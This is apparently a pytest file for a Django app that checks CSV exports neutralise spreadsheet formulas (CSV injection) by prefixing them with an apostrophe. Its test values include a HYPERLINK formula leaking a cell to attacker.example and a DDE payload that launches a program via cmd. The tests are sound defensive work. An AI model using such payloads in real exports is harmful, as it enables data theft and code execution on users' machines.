"""CSV files people download run nothing when opened in a spreadsheet (CSV injection)."""

import csv
import datetime
import io

import pytest
import time_machine

from speakup.core.csvfiles import spreadsheet_safe
from speakup.organisations.roles import Role
from tests.register.factories import AppointmentFactory, DirectorFactory
from tests.training.factories import StaffRecordFactory

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'


@pytest.mark.parametrize(
    "value, shown",
    [
        (FORMULA, "'" + FORMULA),
        ("+44 20 7946 0000 x", "'+44 20 7946 0000 x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("-3", "-3"),  # numbers are not formulas and stay numbers
        ("+1.5", "+1.5"),
        (-3, -3),
        ("Ward 7 = busy", "Ward 7 = busy"),
        ("", ""),
        (None, None),
    ],
)
def test_only_a_cell_a_spreadsheet_would_run_is_turned_into_text(value, shown):
    assert spreadsheet_safe(value) == shown


@pytest.mark.django_db
@time_machine.travel(datetime.datetime(2025, 6, 1, 12, tzinfo=datetime.UTC), tick=False)
def test_a_roster_name_written_as_a_formula_is_text_in_the_training_csv(client_as, organisation):
    StaffRecordFactory(organisation=organisation, first_name=FORMULA, last_name="Fictional")
    response = client_as(Role.GUARDIAN).get("/training/organisations/TST01/compliance.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["Name"] == f"'{FORMULA} Fictional"


@pytest.mark.django_db
def test_a_directors_name_written_as_a_formula_is_text_in_the_registers_open_data(
    client, organisation
):
    director = DirectorFactory(first_name="@SUM(A1:A9)", last_name="Fictional")
    AppointmentFactory(director=director, organisation=organisation, role_title="Chair")
    response = client.get("/register/open-data.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["First Name"] == "'@SUM(A1:A9)"
